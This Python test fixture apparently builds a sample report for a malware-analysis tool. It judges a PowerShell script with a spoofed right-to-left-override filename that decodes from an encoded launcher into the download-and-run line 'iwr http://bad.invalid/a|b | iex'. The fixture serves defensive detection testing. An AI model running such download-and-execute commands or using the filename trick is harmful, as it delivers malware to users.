"""A report on a script that hides another, and on a program, as an examination would give it."""

from __future__ import annotations

from vedette.core.executables import Call, Component, Executable, Function, Protection, Section, State
from vedette.core.indicators import Indicator, IndicatorKind
from vedette.core.layers import Layer
from vedette.core.nouns import (
    Artefact,
    ArtefactKind,
    Confidence,
    Coverage,
    Engine,
    Evidence,
    Finding,
    Lines,
    Report,
    Role,
    Severity,
)
from vedette.core.verdicts import Judgement, Verdict

SCRIPT = "sha256:" + "1" * 64
INNER = "sha256:" + "2" * 64
TOOL = "sha256:" + "3" * 64
URL = "http://bad.invalid/a|b"

RUNS = Finding(
    rule="behaviour.downloads-and-runs",
    title="Downloads a program and runs it",
    message="It downloads from http://bad.invalid/a|b and runs what came.",
    techniques=("T1105", "T1059.001"),
    severity=Severity.HIGH,
    confidence=Confidence.STRONG,
    reason="what is run was traced back to the download",
    evidence=(
        Evidence(
            artefact=INNER,
            name="invoice.ps1~1",
            locator=Lines(line=1, column=1, end_line=1, end_column=4),
            quote="iwr",
            role=Role.SOURCE,
        ),
        Evidence(
            artefact=INNER,
            name="invoice.ps1~1",
            locator=Lines(line=1, column=20, end_line=1, end_column=23),
            quote="iex",
            role=Role.SINK,
        ),
    ),
    fingerprint="sha256:" + "a" * 64,
    innocent="an installer of a well-known tool",
    remedy="Do not run it.",
)
HOSTILE = Judgement(
    artefact=SCRIPT,
    name="invoice\u202e1sp.ps1",
    kind="PowerShell script",
    verdict=Verdict.MALICIOUS,
    summary="It downloads a program and runs it.",
    reasons=("downloading and running alone make it malicious",),
    behaviours=(RUNS.fingerprint,),
    changes=("the address belongs to the maker of the tool",),
    inside=1,
)
FINE = Judgement(
    artefact=TOOL, name="tool", kind="ELF executable", verdict=Verdict.BENIGN, summary="It copies files."
)
LAYER = Layer(
    artefact=INNER,
    name="invoice.ps1~1",
    parent="invoice.ps1",
    language="PowerShell script",
    steps=("base64", "UTF-16"),
    before="powershell -enc aQB3AHIA",
    after="iwr http://bad.invalid/a|b | iex\n" + "\n".join(f"# {number}" for number in range(60)),
    size=200,
)
PROGRAM = Executable(
    artefact=TOOL,
    name="tool",
    format="ELF",
    architecture="x86-64",
    kind="program",
    made_with=("GCC 12",),
    libraries=("libc.so.6",),
    protections=(
        Protection(name="NX", state=State.ON),
        Protection(name="RELRO", state=State.PARTIAL, says="the table of functions can be written"),
    ),
    sections=(Section(name=".text", offset=4096, size=100, entropy=6.1, flags="rx"),),
    imports=("system", "printf"),
    strings=("/etc/passwd",),
    functions=(Function(address=4096, name="main", size=40, calls=("system",), summary="calls system"),),
    function_count=3,
    calls=(Call(address=4100, function="main", callee="system", arguments=('"ls"',), says="runs a shell"),),
    components=(
        Component(name="zlib", version="1.2.8", says="zlib 1.2.8", vulnerabilities=("CVE-2018-25032",)),
    ),
)


def indicator(kind: IndicatorKind, value: str) -> Indicator:
    return Indicator(
        kind=kind, value=value, artefact=INNER, name="invoice.ps1~1", offset=4, context="downloads from it"
    )


JUDGED = Report(
    engine=Engine(name="vedette", version="0.1.0", rules="sha256:" + "4" * 64),
    target=Artefact(kind=ArtefactKind.TREE, name="inbox", digest="sha256:" + "5" * 64, size=9),
    findings=(RUNS,),
    judgements=(HOSTILE, FINE),
    layers=(LAYER,),
    executables=(PROGRAM,),
    indicators=(
        indicator(IndicatorKind.URL, URL),
        indicator(IndicatorKind.URL, URL),
        indicator(IndicatorKind.DOMAIN, "bad.invalid"),
        indicator(IndicatorKind.ADDRESS, "2001:db8::7"),
        indicator(IndicatorKind.MAIL, "who@bad.invalid"),
        indicator(IndicatorKind.HASH, "ab" * 32),
        indicator(IndicatorKind.MUTEX, r"Global\it's"),
        indicator(IndicatorKind.WALLET, "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
        indicator(IndicatorKind.PATH, r"C:\Users\Public\x.dat"),
        indicator(IndicatorKind.REGISTRY, r"HKCU\Software\x"),
    ),
    coverage=Coverage(files=3),
)
